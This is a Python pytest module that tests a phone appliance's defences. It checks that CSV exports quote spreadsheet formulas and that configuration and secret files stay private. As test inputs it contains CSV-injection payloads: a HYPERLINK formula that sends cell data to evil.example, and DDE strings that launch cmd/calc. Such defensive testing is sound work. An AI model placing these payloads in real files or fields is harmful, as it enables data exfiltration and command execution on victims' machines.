"""The web page, the control API and the exports against an attacker on the office LAN,
with the real core where it is cheap (one `callbox core` process for the module).

docs/security.md ("The web page, the control API and provisioning") names each rule
and the test here that proves it.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from pathlib import Path

import pytest

from appliance.logic.csv_safe import safe_cell
from appliance.store.records import CallRecords
from tests.conftest import ROOT
from tests.integration.corebox import CoreProcess

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Call back")'


@pytest.fixture(scope="module")
def core(tmp_path_factory):
    data = tmp_path_factory.mktemp("hostile") / "data"
    data.mkdir()
    # A caller's name is whatever the caller's phone sent: here, a formula.
    records = CallRecords(data)
    records.append({"start": "2026-01-05T09:00:00+00:00", "end": "2026-01-05T09:01:00+00:00",
                    "caller": "+48601234567", "caller_name": EVIL_NAME, "callee": "500",
                    "disposition": "ANSWERED", "direction": "inbound", "duration_s": 60})
    records.close()
    box = CoreProcess(data).start()
    yield box
    box.stop()


# ---- CSV exports neutralise formulas ------------------------------------------------

@pytest.mark.parametrize("cell, expected", [
    (EVIL_NAME, "'" + EVIL_NAME),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+48601234567", "+48601234567"),   # a phone number is a number, not a formula
    ("-12.50", "-12.50"),
    ("Anna", "Anna"),
    (42, 42),
])
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(cell, expected):
    assert safe_cell(cell) == expected


def test_the_call_record_export_quotes_a_callers_formula(core):
    status, text = core.api("GET", "/api/cdr.csv")
    assert status == 200
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["caller_name"] == "'" + EVIL_NAME
    assert rows[0]["caller"] == "+48601234567"


def test_the_contacts_export_quotes_formulas_and_imports_back_unchanged(core):
    status, created = core.api("POST", "/api/contacts", {"name": "@SUM(1+1)", "company": "=1+2",
                                                         "numbers": ["+48601000001"]})
    assert status == 201, created
    status, text = core.api("GET", "/api/contacts.csv")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if "SUM" in r["name"])
    assert (row["name"], row["company"]) == ("'@SUM(1+1)", "'=1+2")
    core.api("DELETE", f"/api/contacts/{created['id']}")
    status, result = core.api("POST", "/api/contacts.csv", raw=text.encode())
    assert status == 200 and result["imported"] == 1, result
    status, listing = core.api("GET", "/api/contacts?q=SUM")
    assert [c["name"] for c in listing["contacts"]] == ["@SUM(1+1)"]


def test_every_csv_export_goes_through_the_safe_writer():
    """A new export written with csv.writer directly would skip the quoting."""
    offenders = []
    for base in ("appliance", "web"):
        for path in (ROOT / base).rglob("*.py"):
            if path.name != "csv_safe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# ---- secrets are 0600 ---------------------------------------------------------------

def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_the_configuration_and_the_secret_files_are_private(core):
    status, _ = core.api("PATCH", "/api/settings", {"smtp.password": "mail-secret-1"})
    assert status == 200
    data = core.data_dir
    assert "mail-secret-1" in (data / "config.json").read_text()
    assert _mode(data / "config.json") == 0o600
    assert _mode(data / "state" / "api_token") == 0o600
    assert _mode(data / "run" / "api.json") == 0o600
    assert _mode(data / "state") == 0o700 and _mode(data / "run") == 0o700
    assert _mode(data) & 0o007 == 0


def test_a_box_written_before_the_rule_is_made_private_when_the_core_opens_it(tmp_path):
    from appliance.store.db import Store
    (tmp_path / "state").mkdir(mode=0o755)
    (tmp_path / "config.json").write_text('{"_meta": {"1": {"schema_version": 0}}}')
    os.chmod(tmp_path / "config.json", 0o644)
    os.chmod(tmp_path, 0o755)
    Store(tmp_path).close()
    assert _mode(tmp_path / "config.json") == 0o600
    assert _mode(tmp_path / "state") == 0o700
    assert _mode(tmp_path) == 0o750
